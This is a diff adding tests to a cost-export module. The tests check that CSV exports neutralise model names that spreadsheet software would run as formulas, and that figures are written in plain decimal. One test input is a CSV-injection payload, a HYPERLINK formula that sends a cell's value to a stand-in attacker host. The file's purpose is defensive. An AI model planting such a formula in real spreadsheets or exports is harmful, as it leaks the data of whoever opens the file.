@@ -1,7 +1,9 @@
+import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { scenarioCosts } from '../../../src/core/cost/scenario-costs.ts'
 import { costsCsv } from '../../../src/core/export/costs-csv.ts'
 import { scenarioJson } from '../../../src/core/export/scenario-json.ts'
+import { customPricedModel } from '../../../src/core/pricing/custom-model.ts'
 import { DEFAULT_SCENARIO } from '../../../src/core/scenario/scenario.ts'
 import { fixtureRelease } from '../pricing/fixture-release.ts'
 
@@ -46,5 +48,92 @@ describe('scenarioJson', () => {
       pricing_release: '2026-11-22',
       scenario: DEFAULT_SCENARIO,
     })
+  })
+})
+
+/** RFC 4180, read back: the cells of each line. */
+function parseCsv(csv: string): string[][] {
+  const rows: string[][] = []
+  let row: string[] = []
+  let cell = ''
+  let quoted = false
+  for (let i = 0; i < csv.length; i++) {
+    const c = csv[i]!
+    if (quoted && c === '"' && csv[i + 1] === '"') {
+      cell += '"'
+      i++
+    } else if (quoted && c === '"') quoted = false
+    else if (quoted) cell += c
+    else if (c === '"') quoted = true
+    else if (c === ',') {
+      row.push(cell)
+      cell = ''
+    } else if (c === '\r' && csv[i + 1] === '\n') {
+      row.push(cell)
+      rows.push(row)
+      row = []
+      cell = ''
+      i++
+    } else cell += c
+  }
+  return rows
+}
+
+describe('safe exports', () => {
+  const custom = (name: string, input: number, output: number) =>
+    customPricedModel({
+      name,
+      inputUsdPerMTok: input,
+      outputUsdPerMTok: output,
+      cachedInputUsdPerMTok: null,
+      batchDiscountPercent: null,
+    })
+  const csvFor = (name: string, input: number, output: number, volume: number) =>
+    costsCsv(
+      scenarioCosts(
+        { ...DEFAULT_SCENARIO, modelIds: ['custom'], mixPercents: [100], inputTokensOverride: 3, maxTokens: 1, volume },
+        [custom(name, input, output)],
+        () => undefined,
+      ),
+    )
+
+  it.each(['=HYPERLINK("http://evil.example/?"&A1,"x")', '=1+1', '+1+1', '-2+3', '@SUM(1,1)', '\t=1', '\r=1'])(
+    'neutralises a name that is a formula: %j',
+    (name) => {
+      // (a custom model's name is trimmed, so a leading tab or return goes; the rest is inert)
+      const cell = parseCsv(csvFor(name, 1, 1, 1))[1]![1]!
+      expect(cell).toBe(`'${name.trim()}`)
+    },
+  )
+
+  it('writes tiny figures in plain decimal: 5e-8 is 0.00000005', () => {
+    // 3 input tokens at $0.01 per 1M and 1 output at $0.02: 5e-8 a request
+    const row = parseCsv(csvFor('tiny', 0.01, 0.02, 1))[1]!
+    expect(row[8]).toBe('0.00000005')
+  })
+
+  it('for any name and any prices: every text cell is inert, every figure plain decimal', () => {
+    let runs = 0
+    fc.assert(
+      fc.property(
+        fc.string({ maxLength: 40 }),
+        fc.double({ min: 0, max: 100_000, noNaN: true }),
+        fc.double({ min: 0, max: 100_000, noNaN: true }),
+        fc.integer({ min: 0, max: 1e12 }),
+        (name, input, output, volume) => {
+          runs++
+          const rows = parseCsv(csvFor(name, input, output, volume))
+          expect(rows[0]).toHaveLength(22)
+          const cells = rows[1]!
+          // The name reads back as typed, behind a quote when it would be a formula.
+          const shown = name.trim() === '' ? 'Custom model' : name.trim()
+          expect(cells[1]).toBe(/^[=+\-@\t\r]/.test(shown) ? `'${shown}` : shown)
+          for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+          for (const figure of cells.slice(3, 18)) expect(figure).toMatch(/^\d+(\.\d+)?$/)
+        },
+      ),
+      { numRuns: 500 },
+    )
+    console.log(`CSV export of arbitrary names and prices: ${runs} cases`)
   })
 })
